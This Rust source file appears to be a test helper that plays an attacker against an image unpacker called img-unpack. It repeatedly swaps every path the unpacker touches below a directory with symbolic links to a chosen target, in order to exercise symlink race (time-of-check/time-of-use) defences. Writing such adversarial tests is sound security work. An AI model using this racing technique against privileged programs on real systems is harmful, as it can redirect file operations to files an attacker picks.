//! `swap DIR LINK TARGET`: an attacker who puts a symbolic link to TARGET in the place of
//! everything that img-unpack works on below DIR, over and over, for a moment each; in the
//! place of DIR itself one to TARGET.dir, since DIR is the caller's own word. LINK is where
//! what is out of place waits.
#![no_main]

use std::convert::Infallible;
use std::ffi::{CString, OsString};
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use common::{Fail, sys};
use nix::fcntl::{OFlag, open, openat};
use nix::sys::stat::Mode;

common::entry!("swap", run);

/// No deeper than this below DIR.
const DEPTH: usize = 6;
/// The attacker walks into no link of his own.
const DIRECTORY: OFlag =
    OFlag::O_DIRECTORY.union(OFlag::O_NOFOLLOW).union(OFlag::O_CLOEXEC);

fn run(args: Vec<OsString>) -> Result<Infallible, Fail> {
    let [dir, link, target]: [PathBuf; 3] = args
        .into_iter()
        .skip(1)
        .map(PathBuf::from)
        .collect::<Vec<_>>()
        .try_into()
        .map_err(|_| Fail::new("usage: swap DIR LINK TARGET"))?;
    let (top_link, top_target) =
        (link.with_extension("dir"), target.with_extension("dir"));
    loop {
        swap(&dir, (&top_link, &top_target));
        if let Ok(fd) = open(&dir, DIRECTORY, Mode::empty()) {
            visit(&fd, (&link, &target), DEPTH);
        }
    }
}

fn visit(dir: &OwnedFd, link: (&Path, &Path), depth: usize) {
    let path = PathBuf::from(format!("/proc/self/fd/{}", dir.as_raw_fd()));
    for entry in fs::read_dir(&path).into_iter().flatten().flatten() {
        swap(&path.join(entry.file_name()), link);
        let Some(below) = depth.checked_sub(1) else { continue };
        if let Ok(fd) =
            openat(dir, entry.file_name().as_os_str(), DIRECTORY, Mode::empty())
        {
            visit(&fd, link, below);
        }
    }
}

/// There and back again; it may be gone or have become something else meanwhile.
fn swap(victim: &Path, (link, target): (&Path, &Path)) {
    let c_string = |path: &Path| CString::new(path.as_os_str().as_bytes()).ok();
    let (Some(a), Some(b)) = (c_string(victim), c_string(link)) else { return };
    for _ in 0..2 {
        let _ = sys::exchange(&a, &b);
    }
    if fs::read_link(link).ok().as_deref() != Some(target) {
        // The way back was cut off.
        let _ = fs::remove_dir_all(link).or_else(|_| fs::remove_file(link));
        let _ = symlink(target, link);
    }
}
